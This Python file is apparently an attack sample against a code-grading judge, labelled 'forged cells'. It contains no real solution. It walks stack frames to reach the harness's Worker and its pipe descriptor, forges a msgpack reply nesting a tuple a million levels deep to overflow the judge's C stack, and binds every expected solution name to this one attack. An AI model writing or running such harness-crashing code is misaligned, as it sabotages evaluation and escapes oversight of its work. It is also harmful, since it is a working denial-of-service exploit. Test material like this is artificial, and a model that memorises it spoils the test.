"""
Class: forged cells
Aim: make the judge hash a tuple nested a million deep, which overflows its C stack.
Control: no
"""

import os
import struct
import sys


def find_worker():
    frame = sys._getframe()
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "Worker":
            return frame.f_locals["self"]
        frame = frame.f_back


def sequence():
    """Find the number of the question that waits for an answer."""
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "_handle":
            return frame.f_locals["sequence"]
        frame = frame.f_back


def pack(value):
    """Give msgpack of small integers, texts, lists and dicts; bytes are packed already."""
    if isinstance(value, bytes):
        return value
    if value is None:
        return b"\xc0"
    if isinstance(value, int):
        return struct.pack(">Bq", 0xD3, value)
    if isinstance(value, str):
        data = value.encode()
        return struct.pack(">BI", 0xDB, len(data)) + data
    if isinstance(value, dict):
        packed = b"".join(pack(k) + pack(v) for k, v in value.items())
        return struct.pack(">BI", 0xDF, len(value)) + packed
    return struct.pack(">BI", 0xDD, len(value)) + b"".join(map(pack, value))


def array(count, packed):
    """Give msgpack of a list of so many elements, packed already."""
    return struct.pack(">BI", 0xDD, count) + packed


def send_parts(length, parts):
    """Send one frame of so many bytes, little by little."""
    descriptor = find_worker()._channel._descriptor
    os.write(descriptor, struct.pack("<II", length, 0))
    for part in parts:
        data = memoryview(part)
        while data:
            data = data[os.write(descriptor, data) :]
    os._exit(0)


def levels(first, last):
    return b"".join(b"\x92\x06\x91\x91" + struct.pack(">BI", 0xCE, i + 2) for i in range(first, last))


def reverse_linked_list(*_):
    depth = 1_000_000
    front = struct.pack(">BI", 0xDD, 5) + pack("return") + pack(sequence()) + b"\x93\x91\x91\x00"
    front += struct.pack(">BI", 0xDD, depth + 2) + b"\x93\x01\x91\x91\x01\x91\xc0"
    back = b"\x92\x06\x90" + b"\x90" + b"\x90" + b"\x90"
    steps = range(0, depth, 10_000)
    middle = (levels(start, start + 10_000) for start in steps)
    length = len(front) + 9 * depth + len(back)
    send_parts(length, (p for ps in ([front], middle, [back]) for p in ps))


total = backwards = tally = upwards = scaled = positive = reverse_linked_list
smallest = smallest_of = distinct = reverse_linked_list
